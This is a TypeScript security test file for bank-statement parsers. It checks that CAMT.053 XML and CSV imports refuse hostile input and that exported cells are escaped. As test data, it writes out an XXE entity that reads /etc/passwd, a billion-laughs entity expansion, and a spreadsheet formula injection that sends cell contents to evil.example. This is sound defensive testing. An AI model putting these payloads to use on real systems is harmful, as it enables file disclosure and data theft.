// Attack class: hostile bank statements. A statement is a file from outside (a download, an e-mail
// attachment): CAMT.053 XML with entity tricks, absurd nesting or size, damaged bytes, and CSV exports
// with formulas in their text. The readers refuse with a typed error naming the problem, never expand
// an entity, never read a file the statement names, and every amount they return is whole cents.
import fs from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect } from 'vitest';
import { InputError } from '../../src-main/core/errors';
import { parseCamt053 } from '../../src-main/core/bank/parse-camt053';
import { parseStatementCsv } from '../../src-main/core/bank/parse-statement-csv';
import { STATEMENT_LIMITS, StatementFileError, type BankEntry } from '../../src-main/core/bank/statement-types';
import { writeStatementCsv } from '../../src-main/core/bank/write-statement';
import { fuzzRuns, recordFuzz } from '../fuzz/fuzz-counter';
import { securityCase } from './security-case';

const fixture = fs.readFileSync(path.join(__dirname, '../fixtures/camt053/camt.053.001.08.xml'), 'utf8');
const bytes = (s: string) => new TextEncoder().encode(s);
const typed = (e: unknown) => e instanceof StatementFileError || e instanceof InputError;
const wholeCents = (entries: BankEntry[]) => entries.every((e) => Number.isSafeInteger(e.amountCents) && e.amountCents >= 0);

describe('hostile bank statements', () => {
  securityCase('CAMT.053 entity tricks: XXE and billion laughs refused before parsing', async (check) => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>${fixture.replace('<?xml version="1.0" encoding="UTF-8"?>', '').replace('STMT-08-2025-03', '&x;')}`;
    const laughs = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt><Stmt><Id>&c;</Id></Stmt></BkToCstmrStmt></Document>`;
    for (const xml of [xxe, laughs]) {
      let error: unknown;
      try {
        parseCamt053(bytes(xml));
      } catch (e) {
        error = e;
      }
      expect(error).toBeInstanceOf(StatementFileError);
      expect((error as Error).message).toMatch(/DOCTYPE/);
      expect((error as Error).message).not.toContain('root:');
    }
    check('an external entity (file:///etc/passwd) and a 3-level entity expansion: both refused with "DOCTYPE", no file content in any message');
  });

  securityCase('CAMT.053 budgets: size, nesting and entry count capped', async (check) => {
    const started = Date.now();
    expect(() => parseCamt053(new Uint8Array(STATEMENT_LIMITS.maxFileBytes + 1))).toThrow(StatementFileError);
    const deep = `<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02">${'<a>'.repeat(20_000)}${'</a>'.repeat(20_000)}</Document>`;
    expect(() => parseCamt053(bytes(deep))).toThrow(StatementFileError);
    const entry = '<Ntry><Amt Ccy="EUR">1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><BookgDt><Dt>2025-01-02</Dt></BookgDt></Ntry>';
    const many = `<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt><Id>S</Id><Acct><Id><IBAN>IT60X0542811101000000123456</IBAN></Id></Acct>${entry.repeat(STATEMENT_LIMITS.maxEntries + 1)}</Stmt></BkToCstmrStmt></Document>`;
    expect(() => parseCamt053(bytes(many))).toThrow(/more than 200000 entries/);
    const ms = Date.now() - started;
    check(`a file of ${STATEMENT_LIMITS.maxFileBytes + 1} bytes, 20,000 nested elements and ${STATEMENT_LIMITS.maxEntries + 1} entries: each refused with a StatementFileError (all three in ${ms} ms)`);
  });

  securityCase('CAMT.053 damaged bytes: only typed errors, only whole cents', async (check) => {
    const runs = fuzzRuns(300);
    const base = bytes(fixture);
    let parsed = 0;
    let refused = 0;
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.nat(base.length - 1), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }), fc.option(fc.nat(base.length - 1)), (flips, cut) => {
        const b = base.slice(0, cut ?? base.length);
        for (const [i, v] of flips) if (i < b.length) b[i] = v;
        try {
          const s = parseCamt053(b);
          expect(wholeCents(s.entries)).toBe(true);
          parsed++;
        } catch (e) {
          expect(typed(e)).toBe(true);
          refused++;
        }
      }),
      { numRuns: runs, seed: 16 },
    );
    recordFuzz('camt053-damaged-bytes', runs);
    check(`${runs} damaged copies of the 001.08 fixture (byte flips, truncation): ${parsed} read with whole-cent amounts, ${refused} refused with a typed error, 0 other errors`);
  });

  securityCase('CSV statements: hostile cells give typed rejects, and written text cannot run as a formula', async (check) => {
    const runs = fuzzRuns(300);
    let entries = 0;
    let rejects = 0;
    fc.assert(
      fc.property(fc.array(
          fc.tuple(
            fc.oneof(fc.string({ maxLength: 12 }), fc.integer({ min: 1, max: 28 }).map((d) => `2025-02-${String(d).padStart(2, '0')}`)),
            fc.oneof(fc.string({ maxLength: 12 }), fc.integer({ min: -10_000_000, max: 10_000_000 }).map((c) => `${c < 0 ? '-' : ''}${Math.floor(Math.abs(c) / 100)},${String(Math.abs(c) % 100).padStart(2, '0')}`)),
            fc.string({ maxLength: 40 }),
          ),
          { minLength: 1, maxLength: 20 },
        ), (rows) => {
        const csv = ['Data;Importo;Causale', ...rows.map(([d, a, t]) => [d, a, t].map((c) => `"${c.replace(/"/g, '""')}"`).join(';'))].join('\n');
        try {
          const s = parseStatementCsv(csv, { account: 'IT60X0542811101000000123456', source: 'x.csv', dateFormat: 'YYYY-MM-DD' });
          expect(wholeCents(s.entries)).toBe(true);
          entries += s.entries.length;
          rejects += s.rejects.length;
        } catch (e) {
          expect(typed(e)).toBe(true);
        }
      }),
      { numRuns: runs, seed: 17 },
    );
    recordFuzz('statement-csv-cells', runs);
    const payload = '=HYPERLINK("http://evil.example/?x="&A1,"Fattura")';
    const written = writeStatementCsv([{ account: 'A', key: 'k', bankRef: '@SUM(1)', direction: 'credit', amountCents: 100, currency: 'EUR', bookingDate: '2025-01-02', valueDate: null, remittance: payload, structuredRefs: [], counterpartyName: '+cmd', counterpartyIban: null }]);
    const cells = written.trim().split('\n')[1]!;
    expect(cells).not.toMatch(/(^|;)"?[=+@]/);
    check(`${runs} random CSV statements: ${entries} entries in whole cents, ${rejects} rows rejected with field and line, 0 untyped errors; a remittance "=HYPERLINK(…)", a payer "+cmd" and a reference "@SUM(1)" are written with a leading apostrophe`);
  });
});
